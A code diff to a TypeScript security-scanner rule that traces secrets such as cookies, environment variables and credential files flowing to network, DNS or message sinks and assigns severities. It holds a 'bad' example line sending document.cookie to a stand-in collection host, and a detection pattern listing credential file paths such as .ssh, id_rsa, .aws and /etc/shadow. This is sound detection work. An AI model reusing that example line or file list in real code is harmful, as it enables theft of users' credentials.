@@ -6,7 +6,7 @@ import type { Flow } from '../taint/trace-flows.ts';
 import type { SourceKind } from '../taint/sources.ts';
 import { isPlugin } from './helpers.ts';
 
-const LEAVING = new Set(['network', 'beacon', 'navigation', 'dns']);
+const LEAVING = new Set(['network', 'beacon', 'navigation', 'dns', 'message']);
 const SAID: Partial<Record<SourceKind, string>> = {
   environment: 'Environment variables',
   file: 'The contents of files',
@@ -25,41 +25,75 @@ export const secretToNetwork = defineRule({
   title: 'Secrets leave for the network',
   why: 'Data that was never meant for this plugin is sent to a server outside.',
   fix: 'Do not read it. What the plugin needs it can ask for as a permission.',
-  example: { bad: 'fetch("https://collect.example", { method: "POST", body: document.cookie });', good: 'fetch("/api/orders", { method: "POST", body: JSON.stringify(order) });' },
+  example: {
+    bad: 'fetch("https://collect.example", { method: "POST", body: document.cookie });',
+    good: 'fetch("/api/orders", { method: "POST", body: JSON.stringify(order) });',
+  },
   cwe: 200,
   visit: {
     flow: (flow, context) => {
       const said = SAID[flow.source.kind];
       if (!said || !LEAVING.has(flow.sink.kind)) return;
       const severity = severityOf(flow, context);
-      if (severity) context.report(flow.sink.node, { severity, flow, message: `${said} (${flow.source.label}) flow to ${flow.sink.name}.` });
+      if (severity)
+        context.report(flow.sink.node, {
+          severity,
+          flow,
+          message: `${said} (${flow.source.label}) flow to ${flow.sink.name}.`,
+        });
     },
   },
 });
 
 function severityOf(flow: Flow, context: RuleContext): Severity | null {
   const { source, sink } = flow;
-  const destination = sink.destination ? destinationOf(sink.destination, context.file) : ({ kind: 'dynamic' } as const);
-  const isRelative = destination.kind === 'relative' && sink.kind !== 'dns' && !/^(?:net|tls|dgram|WebSocket|RTC|http)/.test(sink.name);
+  if (sink.kind === 'message')
+    return source.kind === 'cookie' || source.kind === 'storage' || source.kind === 'environment'
+      ? 'high'
+      : null;
+  const destination = sink.destination
+    ? destinationOf(sink.destination, context.file)
+    : ({ kind: 'dynamic' } as const);
+  const isRelative =
+    destination.kind === 'relative' &&
+    sink.kind !== 'dns' &&
+    !/^(?:net|tls|dgram|WebSocket|RTC|http)/.test(sink.name);
   if (isRelative) return null;
   const isKnown = destination.kind === 'origin';
-  const isAllowed = isKnown && context.manifest !== null && isDeclared(destination.url, context.manifest.origins);
+  const isAllowed =
+    isKnown && context.manifest !== null && isDeclared(destination.url, context.manifest.origins);
   if (isLocal(destination)) return null;
   const isWhole = /(?:^|\.)env$/.test(source.label) || source.label === 'Deno.env.toObject';
   switch (source.kind) {
     case 'environment':
       if (isWhole) return isAllowed ? 'high' : 'critical';
       // A key handed to the service it belongs to is what the variable is for.
-      if (isCredential(flow, context)) return isPlugin(context) && !isAllowed ? 'medium' : isKnown ? null : 'low';
+      if (isCredential(flow, context))
+        return isPlugin(context) && !isAllowed ? 'medium' : isKnown ? null : 'low';
       return isPlugin(context) ? 'high' : isKnown ? 'high' : 'medium';
     case 'cookie':
+      // Request libraries copy the token against forged requests from its cookie into a header.
+      if (!isKnown && !isPlugin(context) && /[xc]srf/i.test(context.file.text)) return 'low';
+      if (isCredential(flow, context) && !isKnown) return 'low';
       return isAllowed ? 'high' : 'critical';
     case 'file':
-      return isSecretFile(flow, context) ? 'critical' : isPlugin(context) ? 'high' : isKnown ? 'medium' : 'low';
+      return isSecretFile(flow, context)
+        ? 'critical'
+        : isPlugin(context)
+          ? 'high'
+          : isKnown
+            ? 'medium'
+            : 'low';
     case 'system':
-      return isPlugin(context) || (isKnown && isPublic(destination)) ? 'high' : sink.kind === 'dns' ? 'medium' : 'low';
+      return isPlugin(context) || (isKnown && isPublic(destination)) || sink.kind === 'dns' ? 'high' : 'low';
     case 'page':
-      return isAllowed ? 'low' : isKnown || isPlugin(context) ? 'high' : sink.kind === 'network' ? 'medium' : null;
+      return isAllowed
+        ? 'low'
+        : isKnown || isPlugin(context)
+          ? 'high'
+          : sink.kind === 'network'
+            ? 'medium'
+            : null;
     case 'input':
       return isAllowed ? 'low' : isKnown ? 'high' : isPlugin(context) ? 'medium' : 'low';
     case 'storage':
@@ -71,7 +105,10 @@ function severityOf(flow: Flow, context: RuleContext): Severity | null {
 }
 
 function isLocal(destination: ReturnType<typeof destinationOf>): boolean {
-  return destination.kind === 'origin' && /^\w+:\/\/(?:localhost|127\.0\.0\.1|\[::1\])(?::\d+)?$/.test(destination.origin);
+  return (
+    destination.kind === 'origin' &&
+    /^\w+:\/\/(?:localhost|127\.0\.0\.1|\[::1\])(?::\d+)?$/.test(destination.origin)
+  );
 }
 
 function isPublic(destination: ReturnType<typeof destinationOf>): boolean {
@@ -79,12 +116,31 @@ function isPublic(destination: ReturnType<typeof destinationOf>): boolean {
 }
 
 function isCredential({ steps, sink }: Flow, { file }: RuleContext): boolean {
-  if (steps.some((node) => node.type === 'Property' && /^['"]?(?:authorization|x-[\w-]*(?:key|token)|api-?key|auth|credentials|password|token)['"]?$/i.test(file.text.slice(node.key.start, node.key.end)))) return true;
-  if (steps.some((node) => node.type === 'CallExpression' && /\.(?:setRequestHeader|set|setHeader)\(\s*['"]authorization/i.test(file.text.slice(node.start, node.end)))) return true;
+  if (
+    steps.some(
+      (node) =>
+        node.type === 'Property' &&
+        /^['"]?(?:authorization|x-[\w-]*(?:key|token)|api-?key|auth|credentials|password|token)['"]?$/i.test(
+          file.text.slice(node.key.start, node.key.end),
+        ),
+    )
+  )
+    return true;
+  if (
+    steps.some(
+      (node) =>
+        node.type === 'CallExpression' &&
+        /\.(?:setRequestHeader|set|setHeader)\(\s*['"]authorization/i.test(
+          file.text.slice(node.start, node.end),
+        ),
+    )
+  )
+    return true;
   return sink.name.endsWith('#setRequestHeader');
 }
 
-const SECRET_FILE = /\.ssh|\.npmrc|\.aws|\.env\b|id_rsa|credentials|\/etc\/(?:passwd|shadow)|\.kube|\.docker|Login Data|Cookies|wallet|\.gitconfig|\.netrc|keychain/i;
+const SECRET_FILE =
+  /\.ssh|\.npmrc|\.aws|\.env\b|id_rsa|credentials|\/etc\/(?:passwd|shadow)|\.kube|\.docker|Login Data|Cookies|wallet|\.gitconfig|\.netrc|keychain/i;
 
 function isSecretFile({ source }: Flow, { file }: RuleContext): boolean {
   const { node } = source;
@@ -92,6 +148,9 @@ function isSecretFile({ source }: Flow, { file }: RuleContext): boolean {
   if (node.type !== 'CallExpression') return false;
   return node.arguments.some((argument) => {
     const value = file.evaluator.evaluate(argument);
-    return (value.kind === 'constant' && SECRET_FILE.test(String(value.value))) || (value.kind === 'unknown' && SECRET_FILE.test(file.text) && /homedir|HOME\b/.test(file.text));
+    return (
+      (value.kind === 'constant' && SECRET_FILE.test(String(value.value))) ||
+      (value.kind === 'unknown' && SECRET_FILE.test(file.text) && /homedir|HOME\b/.test(file.text))
+    );
   });
 }
